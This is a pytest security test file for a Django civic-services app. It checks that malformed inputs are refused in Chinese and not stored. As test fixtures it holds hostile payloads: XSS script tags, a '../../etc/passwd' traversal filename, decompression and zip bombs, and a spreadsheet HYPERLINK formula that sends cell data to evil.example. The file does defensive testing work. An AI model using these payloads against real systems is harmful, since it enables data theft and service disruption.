"""Issue 10 item 3: the bad-input catalogue. Each case expects a clear refusal in Chinese and nothing stored."""

from __future__ import annotations

import io
import json
import re
import zipfile

import pytest
from django.test import Client
from django.test.utils import override_settings
from openpyxl import Workbook, load_workbook
from PIL import Image

from sanfang.appraisal.models import Round
from sanfang.campaigns.models import CompoundSurvey
from sanfang.cases.models import Case
from sanfang.core.api_auth import issue_token
from sanfang.core.models import AuditEvent
from sanfang.core.spreadsheets import FORMULA_PREFIXES
from sanfang.reports.models import Report

from .routes import html_routes

pytestmark = pytest.mark.django_db

HAN = re.compile(r"[\u4e00-\u9fff]{2,}")


def _client(person=None) -> Client:
    client = Client()
    if person is not None:
        client.force_login(person, backend="sanfang.directory.auth.PhoneOrUsernameBackend")
    return client


def _bearer(person) -> dict:
    _token, raw = issue_token(person, "bad-input")
    return {"HTTP_AUTHORIZATION": f"Bearer {raw}"}


def _says_in_chinese(response) -> str:
    text = response.content.decode("utf-8", "replace")
    if response.get("Content-Type", "").startswith("application/json"):
        text = json.loads(text)["detail"]
    assert HAN.search(text), text[:300]
    return text


def _counts():
    return (Case.objects.count(), Report.objects.count(), Round.objects.count(), AuditEvent.objects.count())


# --- sizes ----------------------------------------------------------------------------------------------


def test_an_oversized_form_body_is_refused_with_a_chinese_413_and_nothing_stored(security_world):
    before = _counts()
    with override_settings(DATA_UPLOAD_MAX_MEMORY_SIZE=1024):
        response = _client().post(
            f"/cases/report/{security_world['compound']}/",
            {"category": "facilities", "description": "楼道灯坏了" * 400},
        )
    assert response.status_code == 413
    _says_in_chinese(response)
    assert _counts() == before


def test_an_oversized_json_body_is_refused_with_a_chinese_413_and_nothing_stored(security_world):
    world = security_world.world
    before = _counts()
    body = json.dumps(
        {"compound": world.compound_a1.code, "category": "facilities", "description": "灯" * 2000}
    )
    with override_settings(DATA_UPLOAD_MAX_MEMORY_SIZE=1024):
        response = _client().post(
            "/api/v1/cases/", body, content_type="application/json", **_bearer(world.epmc_lead)
        )
    assert response.status_code == 413
    _says_in_chinese(response)
    assert _counts() == before[:3] + (before[3],)


# --- encodings and content types --------------------------------------------------------------------------


def test_invalid_utf8_in_a_json_body_is_a_chinese_4xx_and_nothing_stored(security_world):
    world = security_world.world
    before = _counts()
    response = _client().post(
        "/api/v1/cases/",
        b'{"compound": "\xff\xfe", "category": "facilities", "description": "\xc3\x28"}',
        content_type="application/json",
        **_bearer(world.epmc_lead),
    )
    assert 400 <= response.status_code < 500
    _says_in_chinese(response)
    assert _counts() == before


def test_invalid_utf8_in_a_form_body_stores_nothing_and_answers_in_chinese(security_world):
    before = _counts()
    response = _client().post(
        f"/cases/report/{security_world['compound']}/",
        b"category=\xff\xfe&description=%FF%FE%C3%28",
        content_type="application/x-www-form-urlencoded",
    )
    assert response.status_code in (200, 400)  # the form again, with its errors
    _says_in_chinese(response)
    assert _counts() == before


@pytest.mark.parametrize("query", ["q=%FF%FE", "q=%C3%28", "q=%00", "page=%FF", "page=99999999999999999999"])
def test_invalid_utf8_or_absurd_values_in_query_strings_never_fail_the_server(security_world, query):
    world = security_world.world
    client = _client(world.county_official)
    for url in ("/directory/compounds/", "/cases/", "/meetings/", "/reports/", "/directory/places/"):
        response = client.get(f"{url}?{query}")
        assert response.status_code < 500, url


def test_a_wrong_content_type_is_a_chinese_4xx_and_nothing_stored(security_world):
    world = security_world.world
    before = _counts()
    response = _client().post(
        "/api/v1/cases/", "compound=x&category=y", content_type="text/plain", **_bearer(world.epmc_lead)
    )
    assert 400 <= response.status_code < 500
    _says_in_chinese(response)
    assert _counts() == before


# --- absurd dates and numbers -----------------------------------------------------------------------------


@pytest.mark.parametrize("year", [99999, -1, 0, 10**30])
def test_an_absurd_appraisal_year_is_refused_in_chinese(security_world, year):
    world = security_world.world
    before = _counts()
    response = _client().post(
        "/api/v1/appraisal/rounds",
        json.dumps({"community_code": world.community_a.code, "year": year}),
        content_type="application/json",
        **_bearer(world.street_official),
    )
    assert 400 <= response.status_code < 500
    _says_in_chinese(response)
    assert _counts() == before


@pytest.mark.parametrize(
    "field, value",
    [
        ("households", -5),
        ("households", 10**30),
        ("year_built", 99999),
        ("floor_area", "NaN"),
        ("floor_area", "Infinity"),
        ("floor_area", "-1"),
    ],
)
def test_absurd_numbers_in_a_survey_are_refused_in_chinese_and_nothing_changes(security_world, field, value):
    world = security_world.world
    survey = CompoundSurvey.objects.get(pk=security_world["survey"])
    body = json.dumps({"version": survey.version, field: value})
    response = _client().patch(
        f"/api/v1/campaigns/surveys/{survey.pk}",
        body,
        content_type="application/json",
        **_bearer(world.rc_member),
    )
    assert 400 <= response.status_code < 500
    _says_in_chinese(response)
    survey.refresh_from_db()
    assert getattr(survey, field, None) != value


def test_a_nan_json_literal_is_refused_in_chinese(security_world):
    world = security_world.world
    survey = CompoundSurvey.objects.get(pk=security_world["survey"])
    body = f'{{"version": {survey.version}, "floor_area": NaN, "households": Infinity}}'
    response = _client().patch(
        f"/api/v1/campaigns/surveys/{survey.pk}",
        body,
        content_type="application/json",
        **_bearer(world.rc_member),
    )
    assert 400 <= response.status_code < 500
    _says_in_chinese(response)


# --- files ------------------------------------------------------------------------------------------------


def _png(width: int, height: int) -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", (width, height)).save(buf, "PNG")
    return buf.getvalue()


def _declared_png(width: int, height: int) -> bytes:
    """A small PNG whose header claims a huge picture (a decompression bomb's calling card)."""
    import struct
    import zlib

    data = bytearray(_png(1, 1))
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    data[16:29] = ihdr
    data[29:33] = struct.pack(">I", zlib.crc32(b"IHDR" + ihdr))
    return bytes(data)


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><rect width="9" height="9"/></svg>'


@pytest.mark.parametrize(
    "name, content, content_type",
    [
        ("bomb.png", _declared_png(100_000, 100_000), "image/png"),
        ("photo.svg", SVG, "image/svg+xml"),
        ("photo.png", SVG, "image/png"),  # an SVG that claims to be a PNG
        ("../../etc/passwd", b"root:x:0:0:root:/root:/bin/bash\n", "image/jpeg"),
        ("photo\x00.png.exe", b"MZ\x90\x00", "image/png"),
        ("empty.png", b"", "image/png"),
    ],
)
def test_a_bad_photo_is_refused_in_chinese_and_nothing_stored(security_world, name, content, content_type):
    from django.core.files.uploadedfile import SimpleUploadedFile

    before = _counts()
    response = _client().post(
        f"/api/v1/cases/report/{security_world['compound']}",
        {
            "category": "facilities",
            "description": "楼道灯坏了一个月",
            "photos": [SimpleUploadedFile(name, content, content_type=content_type)],
        },
    )
    assert 400 <= response.status_code < 500
    _says_in_chinese(response)
    assert _counts() == before


def test_a_file_name_with_path_tricks_is_stored_under_a_random_name(security_world):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from sanfang.reports.tests.factories import file_fund_use

    report = file_fund_use(
        security_world.world, attachment=SimpleUploadedFile("../../../etc/passwd\x00.pdf", b"%PDF-1.4 x")
    )
    assert ".." not in report.attachment.name and "passwd" not in report.attachment.name
    assert "\x00" not in report.attachment.name


def test_pillow_pixel_limit_is_on_so_any_code_opening_an_image_refuses_a_bomb():
    """Nothing turns Pillow's decompression-bomb guard off (MAX_IMAGE_PIXELS = None would)."""
    assert Image.MAX_IMAGE_PIXELS is not None and Image.MAX_IMAGE_PIXELS <= 90_000_000


# --- the campaigns import ---------------------------------------------------------------------------------


def _zip_bomb() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        zf.writestr("xl/worksheets/sheet1.xml", b"0" * 60_000_000)
    return buf.getvalue()


def _wrong_headers() -> bytes:
    wb = Workbook()
    wb.active.append(["姓名", "电话"])
    wb.active.append(["张三", "13900000000"])
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


@pytest.mark.parametrize(
    "name, content",
    [
        ("surveys.xlsx", b"this is not a spreadsheet"),
        ("surveys.csv", "小区,地址\n幸福家园,城东路".encode()),
        ("surveys.xlsx", _zip_bomb()),
        ("surveys.xlsx", _wrong_headers()),
    ],
)
def test_a_malformed_import_file_is_refused_in_chinese_and_nothing_imported(security_world, name, content):
    from django.core.files.uploadedfile import SimpleUploadedFile

    world = security_world.world
    from sanfang.core import jobs
    from sanfang.core.models import Job

    surveys = CompoundSurvey.objects.count()
    client = _client(world.street_official)
    response = client.post(
        f"/campaigns/{security_world['campaign']}/import/", {"file": SimpleUploadedFile(name, content)}
    )
    if response.status_code == 302:  # accepted as an upload: the background job (issue 8.5) gives the reasons
        jobs.run_pending()
        job = Job.objects.get(owner=world.street_official, kind="campaigns.import")
        assert job.state == Job.State.FAILED
        response = client.get(response["Location"])
        assert response.status_code == 200 and job.error in response.content.decode()
    else:
        assert response.status_code in (200, 400)  # the import page again, with the reasons
    _says_in_chinese(response)
    assert CompoundSurvey.objects.count() == surveys


# --- HTML and script in text: escaped everywhere ------------------------------------------------------------


PAGES = [
    ("publicity:board", "anonymous", "/b/{compound}"),
    ("cases:public", "anonymous", "/cases/public/{tracking_no}/"),
    ("cases:follow", "anonymous", "/cases/follow/{follow_token}/"),
    ("cases:detail", "epmc_lead", "/cases/{case}/"),
    ("cases:triage", "epmc_lead", "/cases/"),
    ("meetings:meeting", "epmc_lead", "/meetings/{meeting}/"),
    ("meetings:document", "epmc_lead", "/meetings/documents/{document}/"),
    ("reports:detail", "street_official", "/reports/{report}/"),
    ("bulletins:detail", "party_secretary", "/bulletins/{bulletin}/"),
    ("appraisal:publicity", "resident", "/appraisal/rounds/{round}/publicity/"),
    ("campaigns:survey", "street_official", "/campaigns/surveys/{survey}/"),
    ("campaigns:investigation", "street_official", "/campaigns/investigations/{investigation}/"),
    ("directory:place", "street_official", "/directory/places/{compound}/"),
]


@pytest.mark.parametrize("key, persona, template", PAGES, ids=[p[0] for p in PAGES])
def test_script_in_every_text_field_is_rendered_escaped(security_world, key, persona, template):
    """The factories put <script>alert(1)</script> into names and titles; no page may echo it raw."""
    person = None if persona == "anonymous" else getattr(security_world.world, persona)
    response = _client(person).get(template.format(**security_world.ids))
    assert response.status_code == 200
    body = response.content.decode()
    assert "<script>alert(1)</script>" not in body
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in body


# --- spreadsheet formula injection in every export ----------------------------------------------------------


def _exports():
    return [r for r in html_routes() if r.route.endswith(".xlsx") or r.route.endswith(".csv")]


EXPORT_ARGS = {
    "cases:export": {},
    "publicity:status-export": {},
    "appraisal:results-xlsx": {"pk": "round"},
    "campaigns:surveys-xlsx": {"pk": "campaign"},
    "campaigns:rollup-xlsx": {"pk": "campaign"},
    "campaigns:import-template": {"pk": "campaign"},
}


def test_every_spreadsheet_export_is_in_the_formula_injection_catalogue():
    assert {r.key for r in _exports()} == set(EXPORT_ARGS)


@pytest.mark.parametrize("route", _exports(), ids=lambda r: r.key)
def test_spreadsheet_exports_neutralise_cells_that_begin_a_formula(security_world, route):
    from sanfang.cases.models import Case
    from sanfang.directory.models import Organisation, Place

    world = security_world.world
    payloads = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+1", "-2+3", "@SUM(1,2)"]
    Place.objects.filter(pk=world.compound_a1.pk).update(name=payloads[0])
    Place.objects.filter(pk=world.community_a.pk).update(name=payloads[3])
    Organisation.objects.filter(pk=world.company_x.pk).update(name=payloads[1])
    Case.objects.filter(pk=security_world["case"]).update(title=payloads[2])
    CompoundSurvey.objects.filter(pk=security_world["survey"]).update(address=payloads[0], name=payloads[1])
    args = {p: security_world[obj] for p, obj in EXPORT_ARGS[route.key].items()}
    client = _client(world.admin)
    response = client.get(route.url(args))
    assert response.status_code == 200
    if response["Content-Type"].startswith(
        "text/html"
    ):  # a background job (issue 8.5): run it, take its file
        from sanfang.core.testing import run_job

        _job, download = run_job(client, route.url(args))
        data = download.data
    else:
        data = b"".join(response.streaming_content if response.streaming else [response.content])
    workbook = load_workbook(io.BytesIO(data))
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    assert not cell.value.startswith(FORMULA_PREFIXES), f"{sheet.title}!{cell.coordinate}"
    assert texts


# --- paging -------------------------------------------------------------------------------------------------


def _paged_operations():
    from .routes import api_operations, openapi

    out = []
    for op in api_operations():
        spec = openapi()["paths"][op.path][op.method.lower()]
        names = {p["name"] for p in spec.get("parameters", []) if p["in"] == "query"}
        if op.method == "GET" and "offset" in names and not op.params:
            out.append(op)
    return out


@pytest.mark.parametrize("operation", _paged_operations(), ids=lambda op: op.key)
def test_a_negative_offset_or_absurd_limit_on_a_list_is_never_a_server_error(security_world, operation):
    """Found by fuzzing: `?offset=-1` made Django's queryset slicing raise (a 500) on every paged list."""
    headers = _bearer(security_world.world.county_official)
    for query in ("offset=-1", "offset=-16382325&limit=409", "limit=-5", "limit=99999999999"):
        response = _client().get(f"{operation.path}?{query}", **headers)
        assert response.status_code < 500, query
